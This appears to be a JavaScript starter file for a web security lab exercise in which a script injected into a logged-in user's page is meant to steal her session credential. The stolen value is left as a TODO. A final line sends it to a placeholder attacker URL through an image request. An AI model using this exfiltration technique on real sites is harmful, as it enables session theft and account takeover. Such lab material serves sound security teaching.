// Lab 03, part 1: this script runs on alice's page, once she is logged in, as any script
// of the page does (the lab plays the hole that let it in). The attacker site fills in
// {{ ATTACKER_URL }} with its own address when it serves this file.
//
// Find what the page keeps to prove who alice is, and send it to your server: whatever
// arrives at {{ ATTACKER_URL }}/lab/collect (its query string, or a request's body) your
// exploit.py can read at {{ ATTACKER_URL }}/lab/collected.

const stolen = ""; // TODO: what does the page's own script (static/app.js) keep, and where?

// An image request: another origin may always load an image, and it carries a query string.
new Image().src = `{{ ATTACKER_URL }}/lab/collect?stolen=${encodeURIComponent(stolen)}`;
